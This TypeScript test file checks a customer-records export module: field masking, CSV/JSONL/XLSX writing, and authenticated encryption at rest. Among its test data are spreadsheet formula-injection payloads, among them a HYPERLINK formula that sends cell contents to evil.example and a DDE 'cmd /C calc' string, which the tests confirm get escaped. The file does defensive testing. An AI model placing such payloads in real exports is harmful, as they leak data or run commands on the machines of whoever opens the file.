import { maskMobile } from '@warden/security';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import ExcelJS from 'exceljs';
import { randomBytes } from 'node:crypto';
import { PassThrough, Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { v7 as uuidv7 } from 'uuid';
import type { ExportRow } from '../fingerprint/fingerprint.util';
import { FileIntegrityError, SegmentDecryptor, SegmentEncryptor } from './encrypted-file.util';
import { DigestCounter, writeExportFile } from './export-file.writer';
import { csvTextOf } from '../test/csv-text';
import { cellOf, shapeRow, unescapeFormula } from './export-row.util';

const FIELDS = ['name', 'tags', 'mobile', 'email', 'nationalId', 'address'];

/** A customer-records row: the requester sees mobile in clear, email/nationalId/address masked, no tags (none). */
const streamed = (i: number) => ({
  id: uuidv7(),
  version: 1,
  name: `Customer ${i}`,
  mobile: `+86 139-5555-${String(1000 + i)}`,
  email: 'o***@example.org',
  nationalId: '110101********1234',
  address: 'Springfield',
});

async function* rowsOf(items: ExportRow[]): AsyncGenerator<ExportRow> {
  for (const item of items) yield item;
}

async function encryptedFile(format: 'csv' | 'jsonl' | 'xlsx', rows: ExportRow[], key: Buffer): Promise<{ sealed: Buffer; digest: DigestCounter }> {
  const chunks: Buffer[] = [];
  const plain = new PassThrough();
  const digest = new DigestCounter();
  const sink = new PassThrough();
  sink.on('data', (chunk: Buffer) => chunks.push(chunk));
  await Promise.all([writeExportFile(format, FIELDS, rowsOf(rows), plain), pipeline(plain, digest, new SegmentEncryptor(key, 'ctx'), sink)]);
  return { sealed: Buffer.concat(chunks), digest };
}

async function decrypt(sealed: Buffer, key: Buffer, context = 'ctx'): Promise<Buffer> {
  const chunks: Buffer[] = [];
  const sink = new PassThrough();
  sink.on('data', (chunk: Buffer) => chunks.push(chunk));
  await pipeline(Readable.from([sealed]), new SegmentDecryptor(key, context), sink);
  return Buffer.concat(chunks);
}

describe('Export files', () => {
  const key = randomBytes(32);

  describe('masking per field level', () => {
    it('keeps the clear fields requested in clear, masks the others, leaves fields at none empty', () => {
      const row = shapeRow(streamed(1), FIELDS, new Set(['mobile']));
      expect(row).toEqual({
        id: expect.any(String),
        name: 'Customer 1',
        tags: null,
        mobile: '+86 139-5555-1001',
        email: 'o***@example.org',
        nationalId: '110101********1234',
        address: 'Springfield',
      });
    });

    it('masks a sensitive field that arrives in clear but was not requested in clear', () => {
      const row = shapeRow({ ...streamed(2), nationalId: '110101199003071234', address: '1 Main St, Springfield, IL 62701' }, FIELDS, new Set());
      expect(row.mobile).toBe(maskMobile('+86 139-5555-1002'));
      expect(row.nationalId).toBe('110101********1234');
      expect(row.address).toBe('Springfield');
    });

    it('writes the levels into a CSV file, encrypted at rest', async () => {
      const rows = Array.from({ length: 2000 }, (_, i) => shapeRow(streamed(i), FIELDS, new Set()));
      const { sealed, digest } = await encryptedFile('csv', rows, key);
      expect(sealed.includes(Buffer.from('Customer 1'))).toBe(false);
      const plain = await decrypt(sealed, key);
      expect(plain.length).toBe(digest.bytes);
      const parsed = parse(plain, { columns: true }) as Record<string, string>[];
      expect(parsed).toHaveLength(2000);
      expect(Object.keys(parsed[0])).toEqual(['id', ...FIELDS]);
      expect(parsed[5]).toMatchObject({ name: 'Customer 5', tags: '', mobile: maskMobile('+86 139-5555-1005'), email: 'o***@example.org', address: 'Springfield' });
      expect(plain.toString('utf8')).not.toContain('5555-1005');
    });

    it('writes JSON lines and XLSX with the same cells', async () => {
      const rows = [shapeRow(streamed(7), FIELDS, new Set(['mobile']))];
      const jsonl = (await decrypt((await encryptedFile('jsonl', rows, key)).sealed, key)).toString('utf8').trim();
      expect(JSON.parse(jsonl)).toMatchObject({ name: 'Customer 7', mobile: '+86 139-5555-1007', email: 'o***@example.org', tags: null });
      const xlsx = await decrypt((await encryptedFile('xlsx', rows, key)).sealed, key);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(xlsx as unknown as ArrayBuffer);
      const sheet = workbook.getWorksheet('export');
      expect(sheet?.getRow(1).values).toEqual([undefined, 'id', ...FIELDS]);
      expect(sheet?.getRow(2).getCell(2).value).toBe('Customer 7');
      expect(sheet?.getRow(2).getCell(4).value).toBe('+86 139-5555-1007');
      expect(sheet?.getRow(2).getCell(5).value).toBe('o***@example.org');
    });
  });

  describe('CSV', () => {
    it('writes any text so that a CSV parser reads back the same cells (formulas unescaped)', async () => {
      const text = fc.oneof(
        fc.string({ unit: 'grapheme' }),
        fc.constantFrom('"', ',', '\n', '\r', '\r\n', ' "a" ', '=1+2', '', '张三, 北京', '+86 138****8000', '-1', '@SUM(A1)', '\t=1', '＝1+1'),
      );
      await fc.assert(
        fc.asyncProperty(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 20 }), async (cells) => {
          const rows = cells.map(([name, company], i) => ({ id: `id-${i}`, name, company }) as ExportRow);
          const parsed = parse(await csvTextOf(['name', 'company'], rows), { columns: true, cast: (value) => unescapeFormula(value) }) as Record<string, string>[];
          // A cell that already began with an escaped formula reads back without its quote (cannot be told apart).
          const expected = (value: unknown) => unescapeFormula(String(value));
          expect(parsed).toEqual(rows.map((row) => ({ id: row.id, name: expected(row.name), company: expected(row.company) })));
        }),
        { numRuns: 300 },
      );
    });

    it('escapes what a spreadsheet would run as a formula, and leaves numbers and plain text alone', async () => {
      const rows: ExportRow[] = [
        { id: 'a', name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', company: 12.5 },
        { id: 'b', name: '@SUM(1+1)*cmd|\' /C calc\'!A0', company: -3 },
        { id: 'c', name: '+86 138****8000', company: '-x' },
        { id: 'd', name: '\t=1', company: '\r=1' },
        { id: 'e', name: '＝1+1', company: 'Acme = Best' },
      ];
      const parsed = parse(await csvTextOf(['name', 'company'], rows), { columns: true }) as Record<string, string>[];
      expect(parsed.map((row) => [row.name, row.company])).toEqual([
        [`'=HYPERLINK("http://evil.example/?"&A1,"Click")`, '12.5'],
        [`'@SUM(1+1)*cmd|' /C calc'!A0`, '-3'],
        ["'+86 138****8000", "'-x"],
        ["'\t=1", "'\r=1"],
        ["'＝1+1", 'Acme = Best'],
      ]);
    });

    it('writes rows given one by one and in batches into the same file, header first', async () => {
      const rows = Array.from({ length: 1500 }, (_, i) => shapeRow({ ...streamed(i), name: `Customer "${i}", Jr.` }, FIELDS, new Set()));
      const one = async function* () {
        for (const row of rows) yield row;
      };
      const batched = async function* () {
        for (let i = 0; i < rows.length; i += 700) yield rows.slice(i, i + 700);
      };
      const fileOf = async (items: AsyncIterable<ExportRow | ExportRow[]>) => {
        const chunks: Buffer[] = [];
        const sink = new PassThrough();
        sink.on('data', (chunk: Buffer) => chunks.push(chunk));
        await writeExportFile('csv', FIELDS, items, sink);
        return Buffer.concat(chunks).toString('utf8');
      };
      const [a, b] = [await fileOf(one()), await fileOf(batched())];
      expect(a).toBe(b);
      expect(a).toBe(stringify(rows.map((row) => ['id', ...FIELDS].map((column) => cellOf(row[column]))), { header: true, columns: ['id', ...FIELDS] }));
      const parsed = parse(a, { columns: true }) as Record<string, string>[];
      expect(parsed).toHaveLength(1500);
      expect(parsed[3].name).toBe('Customer "3", Jr.');
    });
  });

  describe('encryption at rest', () => {
    const rows = Array.from({ length: 3000 }, (_, i) => shapeRow(streamed(i), FIELDS, new Set()));

    it('refuses a tampered file', async () => {
      const { sealed } = await encryptedFile('csv', rows, key);
      const tampered = Buffer.from(sealed);
      tampered[100] ^= 1;
      await expect(decrypt(tampered, key)).rejects.toBeInstanceOf(FileIntegrityError);
    });

    it('refuses a file cut short at a segment boundary', async () => {
      const { sealed } = await encryptedFile('csv', rows, key);
      const firstLength = sealed.readUInt32BE(0);
      const cut = sealed.subarray(0, 20 + firstLength);
      expect(cut.length).toBeLessThan(sealed.length);
      await expect(decrypt(cut, key)).rejects.toBeInstanceOf(FileIntegrityError);
    });

    it('refuses the wrong key or another file context', async () => {
      const { sealed } = await encryptedFile('csv', rows.slice(0, 10), key);
      await expect(decrypt(sealed, randomBytes(32))).rejects.toBeInstanceOf(FileIntegrityError);
      await expect(decrypt(sealed, key, 'other')).rejects.toBeInstanceOf(FileIntegrityError);
    });
  });
});
